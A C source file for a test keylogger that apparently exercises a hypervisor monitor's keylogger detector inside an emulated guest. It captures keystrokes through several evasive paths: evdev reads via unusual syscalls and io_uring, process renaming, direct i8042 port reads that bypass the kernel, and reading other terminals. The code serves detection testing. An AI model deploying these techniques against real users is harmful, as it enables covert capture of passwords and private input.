/*
 * hvkeylog — the test keylogger for hvmon's keylogger detector (docs/MONITORS.md,
 * tests/integration/keylogger_bochs.sh). A user-space program that does what a
 * process-based keylogger does: it opens the keyboard's evdev node
 * (/dev/input/event*, the one whose name says "keyboard") and reads
 * `struct input_event` records with read(2). It prints every key press it read on
 * stdout (the scenario sends stdout to the guest's serial console):
 *   HVMON-GUEST: KEYLOG ready pid=P comm=C dev=/dev/input/eventN name="..."
 *   HVMON-GUEST: KEYLOG key pid=P code=C cpu=X
 *   HVMON-GUEST: KEYLOG done pid=P comm=C presses=N codes=c1,c2,...
 * Usage: hvkeylog N [alt|preadv2|int80|late|raw|rename|uring|uringtty TTY|ptyread TTY]  — stop after N key presses (EV_KEY value 1).
 * uring (issue 15): reads through io_uring (raw io_uring_setup/io_uring_enter, no liburing): one
 *   IORING_OP_READ per loop, submitted and waited for in one io_uring_enter; the kernel runs the read
 *   in an io-wq worker thread of this process, which never returns through the syscall exit.
 * uringtty TTY (issue 15 item 5 gap A): no evdev: opens TTY (O_NOCTTY: not its controlling terminal)
 *   and reads it through io_uring (IORING_OP_READ on the tty fd, as in uring mode) until N bytes came;
 *   prints "KEYLOG tty ready pid=P comm=C tty=TTY" and "KEYLOG tty done pid=P comm=C bytes=N text=[...]"
 *   (the text with \n as "|").
 * ptyread TTY (issue 15 item 5, "another session's terminal"): no evdev: makes its own session
 *   (setsid; forks first when it leads a process group) whose controlling terminal is a new pty
 *   (/dev/ptmx, mounting devpts on /dev/pts when needed; the slave opened without O_NOCTTY, then
 *   TIOCSCTTY), so it is the foreground process group of its own terminal; then opens TTY (O_NOCTTY)
 *   and read(2)s it until N bytes came; prints "KEYLOG otty ready pid=P comm=C ctty=/dev/pts/N fg=F
 *   pgrp=G sid=S tty=TTY" (F = tcgetpgrp of its terminal) and "KEYLOG otty done pid=P comm=C bytes=N
 *   text=[...]" (\n as "|").
 * rename (issue 15): after every 7th key press it renames itself (prctl PR_SET_NAME kl-ren1, kl-ren2,
 *   ...): hvmon keys a reader by what it is, not its name, so the count goes on (K = 8).
 * preadv2 (issue 15): reads with preadv2(2) (offset -1: the current position) through two
 *   iovecs, the first empty. int80: reads with the i386 read(2) through `int $0x80` (the
 *   compat entry; a 64-bit program may call it, buffer below 4 GiB), which returns evdev's
 *   16-byte compat records. late: once it has N-4 presses, sleeps 3 s before each read (its last
 *   reads return keys typed more than hvmon's 1 s window earlier; at most 4 keys queue up, well
 *   within evdev's 64-event client buffer, which drops everything when it overflows). raw: no evdev at all: with ioperm it turns off the i8042's keyboard
 *   interrupt (controller command byte, bit 0) so the kernel gets no key, polls the status port
 *   0x64 and reads each byte with `inw` at port 0x5f (the word covers 0x5f and the data port
 *   0x60: the key is the high byte); N make codes, then the command byte is restored.
 * alt (several CPUs, issue 11): after each read that returned a key press, move to the next
 * online CPU (sched_setaffinity to that one CPU), so the reads alternate between the CPUs;
 * cpu=X is the CPU the read ran on (the affinity is one CPU, so sched_getcpu() after it is that CPU).
 * HVKL_QUIET=1 in the environment: no "KEYLOG key" line per key (less serial output while many
 * readers run: a slow reader loses keys when evdev's client buffer overflows).
 * There is no timeout on purpose: with Bochs's `clock: sync=none` idle guest time
 * runs far faster than the host types; the host's harness bounds the run.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/input.h>
#include <stdio.h>
#include <stdlib.h>
#include <sched.h>
#include <string.h>
#include <sys/io.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <termios.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <linux/io_uring.h>
#include <sys/prctl.h>
#include <sys/uio.h>
#include <stdint.h>
#include <unistd.h>

/* compat (i386) evdev record: 32-bit timeval */
struct ev32 { uint32_t sec, usec; uint16_t type, code; int32_t value; };
static struct ev32 ev32buf[64];          /* .bss of a static non-PIE binary: below 4 GiB */

static long read_int80(int fd, void *buf, unsigned len)
{
	long ret;
	__asm__ volatile("int $0x80" : "=a"(ret) : "a"(3L), "b"((long)fd), "c"((long)(uintptr_t)buf), "d"((long)len)
			 : "memory", "r8", "r9", "r10", "r11");
	return ret;
}

static void i8042_wait_in(void)           /* input buffer empty: the controller takes a byte */
{
	for (int i = 0; i < 1000000 && (inb(0x64) & 2); i++)
		;
}

static int i8042_read_ctr(void)
{
	i8042_wait_in();
	outb(0x20, 0x64);
	for (int i = 0; i < 1000000; i++)
		if (inb(0x64) & 1)
			return inb(0x60);
	return -1;
}

static void i8042_write_ctr(int ctr)
{
	i8042_wait_in();
	outb(0x60, 0x64);
	i8042_wait_in();
	outb((unsigned char)ctr, 0x60);
}

/* raw mode: the keyboard read past the kernel */
static int raw_reader(int want, const char *comm)
{
	if (ioperm(0x5f, 6, 1)) {
		printf("HVMON-GUEST: KEYLOG error: ioperm: %s\n", strerror(errno));
		return 2;
	}
	/* No IRQ 1 first: the kernel's driver then reads nothing. Reading the command byte
	 * before that would race with it (the reply raises IRQ 1 and the driver takes it as a
	 * scan code), so the byte Linux leaves on a PC with a PS/2 mouse is written (0x47:
	 * translate, system flag, AUX and keyboard interrupts) without bit 0, and read back. */
	i8042_write_ctr(0x46);
	int ctr = i8042_read_ctr();
	if (ctr < 0) {
		printf("HVMON-GUEST: KEYLOG error: no i8042 command byte\n");
		i8042_write_ctr(0x47);
		return 2;
	}
	ctr |= 1;                             /* restored at the end */
	printf("HVMON-GUEST: KEYLOG raw ready pid=%d comm=%s ctr=0x%02x\n", getpid(), comm, ctr);
	printf("HVMON-GUEST: KEYLOG raw typing\n");
	char codes[4096] = "";
	size_t cl = 0;
	int makes = 0, e0 = 0;
	while (makes < want) {
		unsigned char st = inb(0x64);
		if (!(st & 1) || (st & 0x20))
			continue;                /* nothing, or a mouse byte */
		unsigned short w = inw(0x5f);
		unsigned char b = (unsigned char)(w >> 8);
		if (b == 0xe0) { e0 = 1; continue; }
		if (!(b & 0x80) && !e0 && b) {
			makes++;
			if (cl < sizeof(codes) - 8)
				cl += (size_t)snprintf(codes + cl, sizeof(codes) - cl, "%s%u", cl ? "," : "", b);
		}
		e0 = 0;
	}
	/* the releases of the last key: let them come, then give the keyboard back */
	usleep(300000);
	while (inb(0x64) & 1)
		(void)inw(0x5f);
	i8042_write_ctr(ctr);
	printf("HVMON-GUEST: KEYLOG raw done pid=%d comm=%s makes=%d scancodes=%s\n", getpid(), comm, makes, codes);
	return 0;
}

/* uring mode: one ring, one read in flight */
struct uring {
	int fd;
	unsigned *sq_tail, *sq_mask, *sq_array, *cq_head, *cq_tail, *cq_mask;
	struct io_uring_sqe *sqes;
	struct io_uring_cqe *cqes;
};

static int uring_init(struct uring *u)
{
	struct io_uring_params p;
	memset(&p, 0, sizeof(p));
	u->fd = (int)syscall(__NR_io_uring_setup, 4, &p);
	if (u->fd < 0)
		return -1;
	size_t sqsz = p.sq_off.array + p.sq_entries * sizeof(unsigned);
	size_t cqsz = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
	if (p.features & IORING_FEAT_SINGLE_MMAP)
		sqsz = cqsz = sqsz > cqsz ? sqsz : cqsz;
	uint8_t *sq = mmap(NULL, sqsz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, u->fd, IORING_OFF_SQ_RING);
	if (sq == MAP_FAILED)
		return -1;
	uint8_t *cq = sq;
	if (!(p.features & IORING_FEAT_SINGLE_MMAP)) {
		cq = mmap(NULL, cqsz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, u->fd, IORING_OFF_CQ_RING);
		if (cq == MAP_FAILED)
			return -1;
	}
	u->sqes = mmap(NULL, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
		       MAP_SHARED | MAP_POPULATE, u->fd, IORING_OFF_SQES);
	if (u->sqes == MAP_FAILED)
		return -1;
	u->sq_tail = (unsigned *)(sq + p.sq_off.tail);
	u->sq_mask = (unsigned *)(sq + p.sq_off.ring_mask);
	u->sq_array = (unsigned *)(sq + p.sq_off.array);
	u->cq_head = (unsigned *)(cq + p.cq_off.head);
	u->cq_tail = (unsigned *)(cq + p.cq_off.tail);
	u->cq_mask = (unsigned *)(cq + p.cq_off.ring_mask);
	u->cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
	return 0;
}

/* read(2) through the ring: the result of the completion (bytes, or -errno) */
static long uring_read(struct uring *u, int fd, void *buf, unsigned len)
{
	unsigned tail = *u->sq_tail, idx = tail & *u->sq_mask;
	struct io_uring_sqe *e = &u->sqes[idx];
	memset(e, 0, sizeof(*e));
	e->opcode = IORING_OP_READ;
	e->fd = fd;
	e->addr = (uint64_t)(uintptr_t)buf;
	e->len = len;
	e->off = (uint64_t)-1;               /* the file position (evdev ignores it) */
	e->user_data = 1;
	u->sq_array[idx] = idx;
	__atomic_store_n(u->sq_tail, tail + 1, __ATOMIC_RELEASE);
	unsigned submit = 1;
	for (;;) {
		long r = syscall(__NR_io_uring_enter, u->fd, submit, 1, IORING_ENTER_GETEVENTS, NULL, 0);
		if (r < 0 && errno != EINTR)
			return -errno;
		if (r > 0)
			submit = 0;
		unsigned head = *u->cq_head;
		if (head != __atomic_load_n(u->cq_tail, __ATOMIC_ACQUIRE)) {
			long res = u->cqes[head & *u->cq_mask].res;
			__atomic_store_n(u->cq_head, head + 1, __ATOMIC_RELEASE);
			return res;
		}
	}
}

/* alt mode: pin the caller to the online CPU after @cpu (wrapping); returns it */
static int move_to_next_cpu(int cpu)
{
	long n = sysconf(_SC_NPROCESSORS_ONLN);
	int next = n > 1 ? (int)((cpu + 1) % n) : 0;
	cpu_set_t set;
	CPU_ZERO(&set);
	CPU_SET(next, &set);
	if (sched_setaffinity(0, sizeof(set), &set))
		printf("HVMON-GUEST: KEYLOG error: sched_setaffinity(%d): %s\n", next, strerror(errno));
	return next;
}

static int open_keyboard(char *path, size_t plen, char *name, size_t nlen)
{
	DIR *d = opendir("/dev/input");
	struct dirent *e;
	int fd = -1;
	if (!d)
		return -1;
	while ((e = readdir(d)) && fd < 0) {
		if (strncmp(e->d_name, "event", 5))
			continue;
		snprintf(path, plen, "/dev/input/%s", e->d_name);
		int f = open(path, O_RDONLY);
		if (f < 0)
			continue;
		memset(name, 0, nlen);
		if (ioctl(f, EVIOCGNAME(nlen - 1), name) >= 0 && strstr(name, "eyboard"))
			fd = f;
		else
			close(f);
	}
	closedir(d);
	return fd;
}

/* uringtty mode: a tty read through io_uring, N bytes */
static int uring_tty_reader(int want, const char *comm, const char *tty)
{
	struct uring u = { .fd = -1 };
	int fd = open(tty, O_RDONLY | O_NOCTTY);
	if (fd < 0 || uring_init(&u)) {
		printf("HVMON-GUEST: KEYLOG error: %s / io_uring: %s\n", tty, strerror(errno));
		return 2;
	}
	printf("HVMON-GUEST: KEYLOG tty ready pid=%d comm=%s tty=%s\n", getpid(), comm, tty);
	char text[512];
	int have = 0;
	while (have < want && have < (int)sizeof(text) - 1) {
		long r = uring_read(&u, fd, text + have, (unsigned)(sizeof(text) - 1 - (size_t)have));
		if (r == -EINTR)
			continue;
		if (r <= 0) {
			printf("HVMON-GUEST: KEYLOG error: io_uring read of %s: %s\n", tty, r ? strerror((int)-r) : "EOF");
			return 3;
		}
		have += (int)r;
	}
	text[have] = 0;
	for (int i = 0; i < have; i++)
		if (text[i] == '\n')
			text[i] = '|';
	printf("HVMON-GUEST: KEYLOG tty done pid=%d comm=%s bytes=%d text=[%s]\n", getpid(), comm, have, text);
	return 0;
}

/* ptyread mode: the foreground of its own terminal (a pty) reading another tty */
static int pty_tty_reader(int want, const char *comm, const char *tty)
{
	if (setsid() < 0) {                   /* a process group leader cannot: its child can */
		pid_t c = fork();
		if (c < 0) {
			printf("HVMON-GUEST: KEYLOG error: fork: %s\n", strerror(errno));
			return 2;
		}
		if (c > 0) {
			int st = 0;
			waitpid(c, &st, 0);
			return WIFEXITED(st) ? WEXITSTATUS(st) : 2;
		}
		if (setsid() < 0) {
			printf("HVMON-GUEST: KEYLOG error: setsid: %s\n", strerror(errno));
			return 2;
		}
	}
	int m = open("/dev/ptmx", O_RDWR | O_NOCTTY);
	if (m < 0) {                          /* no devpts at /dev/pts yet */
		mkdir("/dev/pts", 0755);
		if (mount("devpts", "/dev/pts", "devpts", 0, "") && errno != EBUSY)
			printf("HVMON-GUEST: KEYLOG error: mount devpts: %s\n", strerror(errno));
		m = open("/dev/ptmx", O_RDWR | O_NOCTTY);
		if (m < 0)
			m = open("/dev/pts/ptmx", O_RDWR | O_NOCTTY);
	}
	int unlock = 0, n = -1;
	if (m < 0 || ioctl(m, TIOCSPTLCK, &unlock) || ioctl(m, TIOCGPTN, &n)) {
		printf("HVMON-GUEST: KEYLOG error: pty: %s\n", strerror(errno));
		return 2;
	}
	char pts[32];
	snprintf(pts, sizeof(pts), "/dev/pts/%d", n);
	int s = open(pts, O_RDWR);            /* a session leader without a terminal: it becomes its own */
	if (s < 0 || ioctl(s, TIOCSCTTY, 0)) {
		printf("HVMON-GUEST: KEYLOG error: %s as the controlling terminal: %s\n", pts, strerror(errno));
		return 2;
	}
	int fd = open(tty, O_RDONLY | O_NOCTTY);
	if (fd < 0) {
		printf("HVMON-GUEST: KEYLOG error: %s: %s\n", tty, strerror(errno));
		return 2;
	}
	printf("HVMON-GUEST: KEYLOG otty ready pid=%d comm=%s ctty=%s fg=%d pgrp=%d sid=%d tty=%s\n", getpid(), comm,
	       pts, (int)tcgetpgrp(s), (int)getpgrp(), (int)getsid(0), tty);
	char text[512];
	int have = 0;
	while (have < want && have < (int)sizeof(text) - 1) {
		ssize_t r = read(fd, text + have, sizeof(text) - 1 - (size_t)have);
		if (r < 0 && errno == EINTR)
			continue;
		if (r <= 0) {
			printf("HVMON-GUEST: KEYLOG error: read of %s: %s\n", tty, r ? strerror(errno) : "EOF");
			return 3;
		}
		have += (int)r;
	}
	text[have] = 0;
	for (int i = 0; i < have; i++)
		if (text[i] == '\n')
			text[i] = '|';
	printf("HVMON-GUEST: KEYLOG otty done pid=%d comm=%s bytes=%d text=[%s]\n", getpid(), comm, have, text);
	return 0;
}

int main(int argc, char **argv)
{
	int want = argc > 1 ? atoi(argv[1]) : 16;
	const char *mode = argc > 2 ? argv[2] : "";
	int alt = !strcmp(mode, "alt"), pv2 = !strcmp(mode, "preadv2"), i80 = !strcmp(mode, "int80");
	int late = !strcmp(mode, "late"), ren = !strcmp(mode, "rename"), renames = 0, uring = !strcmp(mode, "uring");
	struct uring u = { .fd = -1 };
	int quiet = getenv("HVKL_QUIET") && !strcmp(getenv("HVKL_QUIET"), "1");
	char path[300], name[128], comm[17] = "";
	setvbuf(stdout, NULL, _IOLBF, 0);
	prctl(PR_GET_NAME, comm);
	if (!strcmp(mode, "raw"))
		return raw_reader(want, comm);
	if (!strcmp(mode, "ptyread"))
		return pty_tty_reader(want, comm, argc > 3 ? argv[3] : "/dev/tty1");
	if (!strcmp(mode, "uringtty"))
		return uring_tty_reader(want, comm, argc > 3 ? argv[3] : "/dev/tty1");
	int fd = open_keyboard(path, sizeof(path), name, sizeof(name));
	if (fd < 0) {
		printf("HVMON-GUEST: KEYLOG error: no keyboard evdev node (%s)\n", strerror(errno));
		return 2;
	}
	if (uring && uring_init(&u)) {
		printf("HVMON-GUEST: KEYLOG error: io_uring: %s\n", strerror(errno));
		return 2;
	}
	printf("HVMON-GUEST: KEYLOG ready pid=%d comm=%s dev=%s name=\"%s\"\n", getpid(), comm, path, name);
	struct input_event ev[64];
	char codes[4096] = "";
	size_t cl = 0;
	int presses = 0;
	if (alt)
		move_to_next_cpu(-1);         /* start on CPU 0 */
	while (presses < want) {
		ssize_t n;
		if (late && presses >= want - 4)
			sleep(3);          /* read what queued up meanwhile: after hvmon's 1 s window */
		if (pv2) {
			struct iovec iov[2] = { { ev, 0 }, { ev, sizeof(ev) } };   /* the first iovec empty */
			n = preadv2(fd, iov, 2, -1, 0);
		} else if (uring) {
			long r = uring_read(&u, fd, ev, sizeof(ev));
			if (r < 0) {
				errno = (int)-r;
				n = -1;
			} else {
				n = r;
			}
		} else if (i80) {
			long r = read_int80(fd, ev32buf, sizeof(ev32buf));
			if (r < 0) {
				errno = (int)-r;
				n = -1;
			} else {           /* widen the compat records for the loop below */
				n = (ssize_t)(r / (long)sizeof(ev32buf[0]) * (long)sizeof(ev[0]));
				for (long i = 0; i < r / (long)sizeof(ev32buf[0]); i++) {
					ev[i].type = ev32buf[i].type;
					ev[i].code = ev32buf[i].code;
					ev[i].value = ev32buf[i].value;
				}
			}
		} else {
			n = read(fd, ev, sizeof(ev));
		}
		if (n < 0) {
			if (errno == EINTR)
				continue;
			printf("HVMON-GUEST: KEYLOG error: read: %s\n", strerror(errno));
			return 3;
		}
		int cpu = sched_getcpu(), pressed = 0;
		for (ssize_t i = 0; i < n / (ssize_t)sizeof(ev[0]); i++) {
			if (ev[i].type != EV_KEY || ev[i].value != 1)
				continue;
			presses++;
			pressed = 1;
			if (!quiet)
				printf("HVMON-GUEST: KEYLOG key pid=%d code=%u cpu=%d\n", getpid(), ev[i].code, cpu);
			if (cl < sizeof(codes) - 8)
				cl += (size_t)snprintf(codes + cl, sizeof(codes) - cl, "%s%u", cl ? "," : "",
						       ev[i].code);
		}
		if (alt && pressed)
			move_to_next_cpu(cpu);
		if (ren && presses / 7 > renames) {
			char nm[16];
			snprintf(nm, sizeof(nm), "kl-ren%d", ++renames);
			prctl(PR_SET_NAME, nm);
		}
	}
	printf("HVMON-GUEST: KEYLOG done pid=%d comm=%s presses=%d codes=%s\n", getpid(), comm, presses,
	       codes);
	return 0;
}
